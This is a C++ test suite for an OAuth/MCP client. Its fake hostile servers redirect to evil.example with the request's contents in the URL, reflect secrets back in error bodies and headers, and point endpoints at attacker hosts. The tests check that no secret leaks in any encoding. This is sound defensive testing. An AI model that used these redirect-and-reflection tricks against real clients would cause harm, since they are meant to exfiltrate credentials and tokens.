// No error and no trace of a sign-in holds a secret, whatever answers whichever request.
#include "mcp/hostile.hpp"

#include <string>
#include <string_view>

namespace cs = countersign;
using hostile::journey;

namespace {

std::string escaped(std::string_view text) {
  std::string out;
  for (char const c : text) {
    if (c == '"' || c == '\\') out += '\\';
    out += c == '\n' ? ' ' : c;
  }
  return out;
}
cs::response says(int status, std::string_view body) { return cs::response(status, cs::secret(body)); }

// What a server may answer that has just been sent `what`: some of it is sent back.
struct fault {
  std::string_view name;
  cs::result<cs::response> (*answer)(cs::request const& what);
};
std::string all_of(cs::request const& what) {
  std::string text(what.body.reveal());
  what.fields([&](std::string_view name, std::string_view value) {
    text += " " + std::string(name) + ": " + std::string(value);
  });
  return text;
}
using got = cs::result<cs::response>;
constexpr fault faults[] = {
    {"not sent",
     [](cs::request const&) -> got {
       return cs::error{cs::errc::not_sent, "down"};
     }},
    {"no answer",
     [](cs::request const&) -> got {
       return cs::error{cs::errc::unanswered, "cut"};
     }},
    {"leads inside",
     [](cs::request const&) -> got {
       return cs::error{cs::errc::insecure, "within a network"};
     }},
    {"too large",
     [](cs::request const&) -> got {
       return cs::error{cs::errc::too_large, "endless"};
     }},
    {"redirect",
     [](cs::request const& what) -> got {
       auto made = says(307, "");
       made.headers.append("Location", "https://evil.example/?" + escaped(all_of(what)));
       return made;
     }},
    {"reflected as HTML",
     [](cs::request const& what) -> got { return says(500, "<p>" + all_of(what) + "</p>"); }},
    {"reflected as text of a 200", [](cs::request const& what) -> got { return says(200, all_of(what)); }},
    {"reflected as a description",
     [](cs::request const& what) -> got {
       return says(400,
                   R"({"error":"invalid_request","error_description":")" + escaped(all_of(what)) + "\"}");
     }},
    {"reflected as a code",
     [](cs::request const& what) -> got {
       return says(400, R"({"error":")" + escaped(what.body.reveal()) + "\"}");
     }},
    {"the canary as a code",
     [](cs::request const&) -> got {
       return says(400, R"({"error":")" + std::string(hostile::canary) + "\"}");
     }},
    {"the canary as a code of a 200",
     [](cs::request const&) -> got {
       return says(200, R"({"error":")" + std::string(hostile::canary) + "\"}");
     }},
    {"the canary as everything",
     [](cs::request const&) -> got {
       std::string const c(hostile::canary);
       return says(200, R"({"issuer":")" + c + R"(","resource":")" + c + R"(","client_id":")" + c +
                            R"(","token_endpoint_auth_method":")" + c + R"(","access_token":")" + c +
                            R"(","token_type":")" + c + R"(","expires_in":")" + c + R"(","scope":")" + c +
                            "\"}");
     }},
    {"the canary as a URL",
     [](cs::request const&) -> got {
       std::string const c = "http://evil.example/" + std::string(hostile::canary);
       return says(
           200,
           R"({"issuer":"https://id.example","resource":"https://mcp.example/mcp","authorization_servers":[")" +
               c + R"("],"token_endpoint":")" + c + R"(","authorization_endpoint":")" + c +
               R"(","registration_endpoint":")" + c + "\"}");
     }},
    {"the canary in a challenge",
     [](cs::request const&) -> got {
       auto made = says(401, "");
       std::string const c(hostile::canary);
       made.headers.append("WWW-Authenticate", "Bearer realm=\"" + c + "\", error=\"" + c + "\", scope=\"" +
                                                   c + "\", resource_metadata=\"http://" + c + ".example/" +
                                                   c + "\"");
       return made;
     }},
    {"the canary as a nonce",
     [](cs::request const&) -> got {
       auto made = says(400, R"({"error":"use_dpop_nonce"})");
       made.headers.append("DPoP-Nonce", hostile::canary);
       return made;
     }},
    {"a void grant", [](cs::request const&) -> got { return says(400, R"({"error":"invalid_grant"})"); }},
    {"an unknown client",
     [](cs::request const&) -> got { return says(401, R"({"error":"invalid_client"})"); }},
    {"forbidden", [](cs::request const&) -> got { return says(403, ""); }},
    {"not there", [](cs::request const&) -> got { return says(404, "nothing"); }},
    {"too often",
     [](cs::request const& what) -> got {
       auto made = says(429, all_of(what));
       made.headers.append("Retry-After", "1");
       return made;
     }},
    {"cut short",
     [](cs::request const&) -> got { return says(200, R"({"access_token":"at-9-Qz7rVx2kLm9TqWb4)"); }},
};

}  // namespace

BOOST_AUTO_TEST_SUITE(mcp_hostile_leaks)

// Else the cases below show nothing.
BOOST_AUTO_TEST_CASE(a_piece_of_a_secret_is_found_in_each_form) {
  std::string_view const hidden = "abcdefghijkl";
  for (std::string_view text :
       {"...bcdefghi...", "62636465666768 69", "6263646566676869", "65666768696A6B6C",
        "%62%63%64%65%66%67%68%69", "YWJjZGVmZ2hpamts", "eHhhYmNkZWZnaGlqa2w", "eGFiY2RlZmdoaWprbA"})
    BOOST_TEST(hostile::leaks(text, hidden) == (text.find(' ') == std::string_view::npos), text);
}

BOOST_AUTO_TEST_CASE(the_whole_way_is_gone_and_every_secret_stays_where_it_belongs) {
  journey j;
  j.there.turn.auth_method = "client_secret_basic";
  j.there.turn.challenge_scheme = "DPoP";
  j.all_of_it();
  BOOST_TEST(j.errors.empty());
  BOOST_TEST(j.there.count("refresh_token") == 2);
  BOOST_TEST(j.there.count("revoked") == 2);
  BOOST_TEST(j.pages == 2);
  BOOST_TEST(j.secrets.size() >= 6u);  // the canary, two states, two verifiers, a key
  j.all_is_where_it_belongs();
  j.nothing_is_told();
}

BOOST_AUTO_TEST_CASE(no_fault_of_any_answer_shows_a_secret_or_moves_one) {
  for (std::string const scheme : {"Bearer", "DPoP"}) {
    auto const begin = [&](journey& j) {
      j.there.turn.auth_method = scheme == "DPoP" ? "client_secret_basic" : "client_secret_post";
      j.there.turn.challenge_scheme = scheme;
    };
    journey whole;
    begin(whole);
    whole.all_of_it();
    auto const requests = whole.record.size();
    BOOST_TEST(requests > 15u);
    for (auto const& one : faults)
      for (std::size_t at = 0; at < requests; ++at)
        for (bool const once : {true, false}) {
          BOOST_TEST_CONTEXT(scheme << ": " << one.name << " at request " << at
                                    << (once ? "" : " and all after it")) {
            journey j;
            begin(j);
            j.instead = [&](cs::request const& what, std::size_t number) -> std::optional<got> {
              if (once ? number != at : number < at) return std::nullopt;
              return one.answer(what);
            };
            j.all_of_it();
            j.all_is_where_it_belongs();
            j.nothing_is_told();
            BOOST_TEST(j.record.size() < 100u);
          }
        }
  }
}

BOOST_AUTO_TEST_SUITE_END()
